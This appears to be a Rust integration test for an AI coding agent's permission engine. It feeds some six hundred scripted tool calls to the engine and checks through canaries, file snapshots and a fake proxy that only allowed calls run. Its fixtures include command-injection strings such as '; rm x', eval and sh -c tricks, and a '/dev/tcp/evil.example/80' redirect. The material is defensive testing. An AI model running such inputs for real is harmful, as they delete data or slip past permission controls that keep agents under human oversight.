//! The rows of the tables, run: the built program, a real engine, and a model that calls what the rows say.
//!
//! Each call stands in a message of its own, and its id is the name of its row; a plugin of the user's puts that name into
//! the environment of the shell, and stand-ins for all programs into its path. What is allowed comes first. Nobody is there
//! to be asked, so what asks must not run either. Seen are: what the result says about the call, what the stand-ins wrote
//! down, and all files before and after.
//!
//! That a canary is silent proves nothing unless it can sing: every line is also run by a plain bash, in a place of its
//! own. What is allowed must leave the same traces there and here; of the rest it is known which would leave traces.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use opencode_rs::permission::Policy;
use opencode_rs::request::{Effect, Preset};
use serde_json::{Value, json};

use super::canaries::{Canaries, Changes, Entry, Trace, changes, tree};
use super::table::{Case, Ground, cases, ground, ground_in, tables};
use crate::support::{Sandbox, empty_registry};

/// How many calls one engine is given: each makes the next request longer.
const MOST_CALLS: usize = 120;

/// What the engine and the tests themselves write beside what the rows speak of.
const OURS: [&str; 8] = [
    "tmp",
    "project",
    "script.toml",
    "canaries",
    "home/.config",
    "home/.local",
    "home/.cache",
    "home/.bun",
];

/// No tools, but permissions: nothing can call them.
const NOT_CALLED: [&str; 2] = ["doom_loop", "external_directory"];

/// Tools that the engine does not offer here, or that nobody has; a call of them is a call of `invalid`.
const NOT_OFFERED: [&str; 7] = [
    "apply_patch",
    "StructuredOutput",
    "invalid",
    "lsp",
    "plan_exit",
    "question",
    "websearch",
];

/// Tools of a server and tools that nobody knows, made real: they leave a trace of their own.
const OTHER_TOOLS: [&str; 4] = ["fake_add", "list_mcp_resources", "made_up", "read_mcp_resource"];

/// Rows that a plain bash does not run: it would look for a host.
const NOT_RUN_PLAINLY: [&str; 1] = ["/dev/tcp/"];

/// Lines that leave no trace when a plain bash runs them; that they did not run is only seen in the result.
const SILENT: [&str; 32] = [
    // Nothing at all, or what no shell takes.
    "",
    "   \n",
    "# rm x",
    "ls (",
    "ls \"",
    "ls $(",
    "ls ( rm x",
    "echo \"; rm x",
    "git status \0; touch x",
    "{\"command\":[\"rm\",\"x\"]}",
    "{\"command\":\"ls\",\"workdir\":[\"/etc\"]}",
    // What they would run has no name here, or a name that is the machine's own.
    "$x status",
    "nice --weird $x",
    "eval \"$x\"",
    "sh -c \"$x\"",
    "/usr/bin/git status",
    "builtin rm x",
    ". ./x.sh",
    "source x.sh",
    "bash",
    // A redirection that fails, or a host that is not looked for.
    "ls < $x",
    "echo a > $x",
    "ls > /dev/tcp/evil.example/80",
    // What the shell does by itself.
    "alias l='rm x'",
    "[[ $x -eq 1 ]] && ls",
    "cd - && ls",
    "echo $((x))",
    "echo ${a[x]}",
    "echo ${x@P}",
    // Placeholders that stay what they are.
    "echo rm | xargs -I{} {} x",
    "echo rm | xargs -i {} x",
    "> out rm x",
];

/// Rows that are judged to be allowed, and that the engine asks about itself: it does not follow `cd`, and takes
/// `../a.txt` for a place outside. Whether that is allowed is decided anew, and nobody is there to say so.
const STRICTER: [&str; 1] = ["cd sub && cat ../a.txt"];

/// A run of the program: rows whose rules do not get in each other's way.
struct Pack {
    preset: Preset,
    rules: Vec<String>,
    cases: Vec<Case>,
}

/// Puts rows together whose effects stay the same when their rules are put together, so that few engines are started.
fn packs(ground: &Ground, cases: Vec<Case>) -> Vec<Pack> {
    let mut units: Vec<Pack> = Vec::new();
    for case in cases {
        let same = |unit: &&mut Pack| (unit.preset, &unit.rules) == (case.preset, &case.rules);
        match units.iter_mut().find(same) {
            Some(unit) => unit.cases.push(case),
            None => units.push(Pack {
                preset: case.preset,
                rules: case.rules.clone(),
                cases: vec![case],
            }),
        }
    }
    units.sort_by_key(|unit| std::cmp::Reverse(unit.cases.len()));
    let mut packs: Vec<Pack> = Vec::new();
    for unit in units {
        let fitting = packs.iter_mut().find_map(|pack| {
            let rules = together(&pack.rules, &unit.rules);
            let policy = ground.policy(unit.preset, &rules);
            let fits = pack.preset == unit.preset
                && pack.cases.len() + unit.cases.len() <= MOST_CALLS
                && [&unit, &*pack].iter().all(|part| {
                    let own = ground.policy(part.preset, &part.rules);
                    part.cases.iter().all(|case| {
                        // A tool that is not there proves nothing about a rule that only denies some of its calls.
                        case.judged_by(&policy, ground).effect == case.expect
                            && is_removed(&policy, case) == is_removed(&own, case)
                    })
                });
            fits.then_some((pack, rules))
        });
        match fitting {
            Some((pack, rules)) => {
                pack.rules = rules;
                pack.cases.extend(unit.cases);
            }
            None => packs.push(unit),
        }
    }
    for pack in &mut packs {
        // What must not run cannot hide behind what runs after it.
        pack.cases.sort_by_key(|case| case.expect != Effect::Allow);
    }
    packs
}

/// Whether the tool of a row is denied altogether.
fn is_removed(policy: &Policy, case: &Case) -> bool {
    let name = match case.tool.as_str() {
        "write" | "apply_patch" => "edit",
        name => name,
    };
    policy
        .removed_tools()
        .iter()
        .any(|removed| removed == name || removed.strip_suffix('*').is_some_and(|start| name.starts_with(start)))
}

fn together(rules: &[String], more: &[String]) -> Vec<String> {
    let mut all = rules.to_vec();
    all.extend(more.iter().filter(|rule| !rules.contains(rule)).cloned());
    all
}

/// The engine reads the name of a tool in capitals as the tool that it knows, before anybody is asked: `BASH` is `bash`.
fn as_called(case: Case, ground: &Ground) -> Case {
    if case.tool != "BASH" {
        return case;
    }
    let case = Case {
        tool: "bash".to_owned(),
        ..case
    };
    let policy = ground.policy(case.preset, &case.rules);
    Case {
        expect: case.judged_by(&policy, ground).effect,
        ..case
    }
}

/// The arguments as a model sends them: what the tool needs besides what the row is about.
fn arguments(case: &Case, ground: &Ground) -> Value {
    let mut arguments = case.arguments(ground);
    let given = case.input.starts_with('{');
    let more = match case.tool.as_str() {
        "bash" => json!({ "description": case.name }),
        "write" if !given => json!({ "content": text_of(case) }),
        "edit" if !given && case.expect == Effect::Allow => json!({ "oldString": "", "newString": text_of(case) }),
        "edit" if !given => json!({ "oldString": "the text", "newString": "another text" }),
        "task" if !given => json!({ "description": case.name }),
        "todowrite" => json!({ "todos": [] }),
        _ => json!({}),
    };
    let all = arguments.as_object_mut().unwrap();
    all.extend(more.as_object().unwrap().clone());
    arguments
}

/// What a row writes.
fn text_of(case: &Case) -> String {
    format!("written by {}\n", case.name)
}

/// What comes of a row that runs.
#[derive(Debug, Default)]
struct Effects {
    traces: Vec<Trace>,
    changes: Changes,
}

/// Runs a line in a plain bash, in a place of its own, and sees what comes of it; and what a tool for files is to write.
fn effects(canaries: &Canaries, case: &Case) -> Effects {
    let ground = ground();
    canaries.settle(&ground);
    let arguments = case.arguments(&ground);
    let mut effects = Effects::default();
    if case.tool == "write" || case.tool == "edit" {
        let path = case.input.replace("@ROOT@/", "../");
        let path = Path::new("work").join(path);
        let path: PathBuf = path.to_str().unwrap().replace("work/../", "").into();
        for parent in path.ancestors().skip(1).filter(|path| !path.as_os_str().is_empty()) {
            effects.changes.insert(parent.to_owned(), Some(Entry::Directory));
        }
        effects.changes.insert(path, Some(Entry::File(text_of(case))));
    }
    if OTHER_TOOLS.contains(&case.tool.as_str()) {
        effects.traces.push(Trace {
            row: case.tool.clone(),
            call: "a tool".to_owned(),
        });
    }
    if case.tool != "bash" || NOT_RUN_PLAINLY.iter().any(|part| case.input.contains(part)) {
        return effects;
    }
    let Some(line) = arguments["command"].as_str().filter(|line| !line.contains('\0')) else {
        return effects;
    };
    let directory = match arguments.get("workdir") {
        None => ground.directory(),
        Some(Value::String(path)) => ground.directory().join(path),
        Some(_) => return effects,
    };
    let before = tree(&ground, &[]);
    effects.traces = canaries.run(&ground, &directory, &case.name, line);
    effects.changes = changes(&before, &tree(&ground, &[]));
    effects
}

/// What comes of each row by its name.
fn plainly(cases: &[Case]) -> BTreeMap<String, Effects> {
    let place = tempfile::tempdir().unwrap();
    let canaries = Canaries::new(place.path().join("canaries"));
    cases
        .iter()
        .map(|case| (case.name.clone(), effects(&canaries, case)))
        .collect()
}

/// Stands where a proxy is: writes down where anybody wants to go, and lets nobody through.
struct Outside {
    address: String,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Outside {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = format!("http://{}", listener.local_addr().unwrap());
        let asked = Arc::new(Mutex::new(Vec::new()));
        let theirs = Arc::clone(&asked);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut line = String::new();
                drop(BufReader::new(&stream).read_line(&mut line));
                theirs.lock().unwrap().push(line.trim_end().to_owned());
                drop(
                    (&stream).write_all(b"HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"),
                );
            }
        });
        Self { address, asked }
    }
}

/// The plugin that names rows, and the tools of the user's that stand for those of a server.
fn install_marks(sandbox: &Sandbox, canaries: &Canaries) {
    let programs = json!(canaries.programs());
    let log = json!(canaries.log());
    sandbox.write(
        "home/.config/opencode/plugin/marks.js",
        format!(
            "export const Marks = async () => ({{ 'shell.env': async ({{ callID }}, output) => {{\n\
             output.env.ROW = callID; output.env.PATH = {programs}; }} }})\n"
        ),
    );
    for name in OTHER_TOOLS {
        sandbox.write(
            &format!("home/.config/opencode/tool/{name}.js"),
            format!(
                "import fs from 'node:fs'\n\
                 export default {{ description: 'x', args: {{}}, async execute() {{\n\
                 fs.appendFileSync({log}, '{name}\\ta tool\\n'); return 'ran' }} }}\n"
            ),
        );
    }
    sandbox.write(
        "home/.config/opencode/skill/x/SKILL.md",
        "---\nname: x\ndescription: for the tests\n---\nNothing.\n",
    );
}

/// A model that makes these calls, one after the other.
fn script(pack: &Pack, ground: &Ground) -> String {
    let mut script = String::new();
    for case in &pack.cases {
        // Arguments as text are sent as they are.
        let words = [&case.tool, &case.name, &arguments(case, ground).to_string()]
            .map(|text| toml::Value::String(text.clone()).to_string());
        let [name, id, arguments] = words;
        script.push_str(&format!(
            "[[reply]]\ntool_calls = [{{ name = {name}, id = {id}, arguments = {arguments} }}]\n"
        ));
    }
    script + "[[reply]]\ntext = \"Done.\"\n"
}

/// Rules as the user's settings hold them.
fn settings(rules: impl Iterator<Item = String>) -> String {
    let mut lists: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for rule in rules {
        let (effect, pattern) = rule.split_once(' ').unwrap();
        lists.entry(effect.to_owned()).or_default().push(pattern.to_owned());
    }
    toml::to_string(&lists).unwrap()
}

/// What a pack showed.
#[derive(Default)]
struct Seen {
    allowed: usize,
    refused: usize,
    /// Of those refused, how many leave traces where nobody refuses them.
    would_show: usize,
    wrong: Vec<String>,
    calls_of_engines: Vec<(usize, Duration)>,
}

impl Seen {
    fn add(&mut self, other: Seen) {
        self.allowed += other.allowed;
        self.refused += other.refused;
        self.would_show += other.would_show;
        self.wrong.extend(other.wrong);
        self.calls_of_engines.extend(other.calls_of_engines);
    }
}

/// Runs a pack and compares everything.
fn run(pack: &Pack) -> Seen {
    let effects = plainly(&pack.cases);
    let sandbox = Sandbox::new();
    let ground = ground_in(&sandbox.path(""));
    let canaries = Canaries::new(ground.root.join("canaries"));
    canaries.settle(&ground);
    install_marks(&sandbox, &canaries);
    let outside = Outside::new();
    let mut flags = ["--no-input", "--trust", "--output-format=json"]
        .map(str::to_owned)
        .to_vec();
    let rules = pack.rules.iter().map(|rule| ground.fill(rule));
    if pack.preset == Preset::LookOnly {
        // Rules for a plain prompt can only come from a file: on the command line they are a mistake, and are named one.
        sandbox.write("home/.config/opencode-rs/config.toml", settings(rules));
    } else {
        flags.push("--auto-tools".to_owned());
        flags.push(format!("--add-dir={}", ground.root.join("extra").display()));
        flags.extend(rules.map(|rule| format!("--{}", rule.replacen(' ', "=", 1))));
    }
    if pack.preset == Preset::ReadOnly {
        flags.push("--read-only".to_owned());
    }
    flags.push("Try everything".to_owned());
    let before = tree(&ground, &OURS);
    let mut program = sandbox
        .rehearse(&script(pack, &ground), flags)
        .directory(ground.directory())
        .env("npm_config_registry", empty_registry())
        .env("NO_PROXY", "127.0.0.1,localhost");
    for name in ["HTTP_PROXY", "HTTPS_PROXY"] {
        program = program.env(name, &outside.address);
    }
    let finished = program.finish();
    let took = finished.took;
    let record = finished.expect(0).record();
    let mut seen = Seen {
        calls_of_engines: vec![(pack.cases.len(), took)],
        ..Seen::default()
    };
    let mut traces: Vec<Trace> = canaries.traces(&ground);
    let mut expected = before.clone();
    for case in &pack.cases {
        let effects = &effects[&case.name];
        let left: Vec<Trace> = traces
            .extract_if(.., |trace| trace.row == case.name || trace.row == case.tool)
            .collect();
        let outcome = Outcome::of(&record, case);
        if case.expect == Effect::Allow {
            seen.allowed += 1;
            seen.wrong.extend(outcome.wrong_for_allowed(case));
            if STRICTER.contains(&case.input.as_str()) {
                if !left.is_empty() {
                    seen.wrong.push(format!("{case:?} ran: {left:?}"));
                }
                continue;
            }
            if sorted(&left) != sorted(&effects.traces) {
                seen.wrong
                    .push(format!("{case:?} left {left:?} instead of {:?}", effects.traces));
            }
            for (path, entry) in &effects.changes {
                match entry {
                    Some(entry) => expected.insert(path.clone(), entry.clone()),
                    None => expected.remove(path),
                };
            }
        } else {
            seen.refused += 1;
            seen.wrong.extend(outcome.wrong_for_refused(case));
            if !left.is_empty() {
                seen.wrong.push(format!("{case:?} ran: {left:?}"));
            }
            if effects.traces.is_empty() && effects.changes.is_empty() {
                if case.tool == "bash" && !SILENT.contains(&case.input.as_str()) {
                    seen.wrong
                        .push(format!("{case:?} would leave no trace, and is not known to be silent"));
                }
            } else {
                seen.would_show += 1;
            }
        }
    }
    // Nobody's: a command may take the mark out of its environment.
    if !traces.is_empty() {
        seen.wrong.push(format!("nobody knows who left {traces:?}"));
    }
    let wrong = changes(&expected, &tree(&ground, &OURS));
    if !wrong.is_empty() {
        seen.wrong.push(format!("files are not as they should be: {wrong:#?}"));
    }
    seen.wrong.extend(wrong_addresses(pack, &outside));
    sandbox.expect_nothing_left();
    seen
}

fn sorted(traces: &[Trace]) -> BTreeSet<&Trace> {
    traces.iter().collect()
}

/// Which addresses were gone to and must not, or the other way round.
fn wrong_addresses(pack: &Pack, outside: &Outside) -> Vec<String> {
    let asked = outside.asked.lock().unwrap();
    let host = |case: &Case| url::Url::parse(&case.input).ok()?.host_str().map(str::to_owned);
    let fetches = |effect: fn(Effect) -> bool| -> BTreeSet<String> {
        pack.cases
            .iter()
            .filter(|case| case.tool == "webfetch" && effect(case.expect))
            .filter_map(host)
            .collect()
    };
    let allowed = fetches(|effect| effect == Effect::Allow);
    let refused = fetches(|effect| effect != Effect::Allow);
    let mut wrong = Vec::new();
    for host in &allowed {
        if !asked.iter().any(|line| line.contains(host.as_str())) {
            wrong.push(format!("nobody went to {host}: {asked:?}"));
        }
    }
    for host in refused.difference(&allowed) {
        if asked.iter().any(|line| line.contains(host.as_str())) {
            wrong.push(format!("somebody went to {host}: {asked:?}"));
        }
    }
    wrong
}

/// What the result says about a call.
struct Outcome<'a> {
    calls: Vec<&'a Value>,
    denied: Vec<&'a Value>,
}

impl<'a> Outcome<'a> {
    fn of(record: &'a Value, case: &Case) -> Self {
        let named = |list: &'a str, field: &'a str| {
            record[list]
                .as_array()
                .unwrap()
                .iter()
                .filter(move |item| item[field] == case.name)
        };
        Self {
            calls: named("tool_calls", "call_id").collect(),
            denied: named("permissions", "id")
                .filter(|permission| permission["decision"] == "denied")
                .collect(),
        }
    }

    fn wrong_for_allowed(&self, case: &Case) -> Option<String> {
        let offered = !NOT_OFFERED.contains(&case.tool.as_str());
        let fine = match self.calls.as_slice() {
            [call] if case.tool == "webfetch" => call["tool"] == "webfetch",
            [call] if offered => call["status"] == "completed" && call["tool"] == case.tool.as_str(),
            [call] => is_not_there(call),
            _ => false,
        };
        let stricter = STRICTER.contains(&case.input.as_str());
        if stricter {
            return self.wrong_for_refused(&Case {
                expect: Effect::Ask,
                ..case.clone()
            });
        }
        (!fine || !self.denied.is_empty())
            .then(|| format!("{case:?} is allowed and yet {:?}, {:?}", self.calls, self.denied))
    }

    fn wrong_for_refused(&self, case: &Case) -> Option<String> {
        let by = match case.expect {
            Effect::Ask => &["nobody"][..],
            _ => &["rule", "preset"],
        };
        let fine = match (self.calls.as_slice(), self.denied.as_slice()) {
            // A tool that is denied altogether, or that nobody has, is not there.
            // In a plain prompt some calls are refused by the engine's own rules, which are ours there.
            ([call], []) => is_not_there(call) || case.preset == Preset::LookOnly && is_refused_by_engine(call),
            ([call], [denied]) => {
                call["status"] == "error"
                    && call["output"].is_null()
                    && denied["by"].as_str().is_some_and(|name| by.contains(&name))
            }
            _ => false,
        };
        (!fine).then(|| format!("{case:?} is refused and yet {:?}, {:?}", self.calls, self.denied))
    }
}

#[test]
fn of_six_hundred_rows_of_the_tables_only_those_that_are_allowed_run() {
    let began = Instant::now();
    let ground = ground();
    let cases: Vec<Case> = tables()
        .iter()
        .flat_map(|table| cases(table))
        .filter(|case| !NOT_CALLED.contains(&case.tool.as_str()))
        .map(|case| as_called(case, &ground))
        .collect();
    let packs = packs(&ground, cases);
    let packed = began.elapsed();
    let mut seen = Seen::default();
    // Each waits until one more engine may run.
    std::thread::scope(|scope| {
        let runs: Vec<_> = packs.iter().map(|pack| scope.spawn(|| run(pack))).collect();
        for run in runs {
            match run.join() {
                Ok(run) => seen.add(run),
                Err(_) => seen.wrong.push("a run failed; see above".to_owned()),
            }
        }
    });
    println!(
        "{} allowed, {} refused, {} of which would have left traces, by {} engines in {:?} (packed {packed:?})\n{:?}",
        seen.allowed,
        seen.refused,
        seen.would_show,
        packs.len(),
        began.elapsed(),
        seen.calls_of_engines,
    );
    assert!(
        seen.wrong.is_empty(),
        "{}:\n{}",
        seen.wrong.len(),
        seen.wrong.join("\n")
    );
    assert!(seen.allowed >= 120 && seen.refused >= 500);
}

/// Whether a call met no tool: the engine calls `invalid` instead, and fails where that is not there either.
fn is_not_there(call: &Value) -> bool {
    let error = call["error"].as_str().unwrap_or_default();
    call["tool"] == "invalid" || error.starts_with("Model tried to call unavailable tool 'invalid'")
}

fn is_refused_by_engine(call: &Value) -> bool {
    let error = call["error"].as_str().unwrap_or_default();
    call["status"] == "error"
        && call["output"].is_null()
        && error.starts_with("The user has specified a rule which prevents you")
}
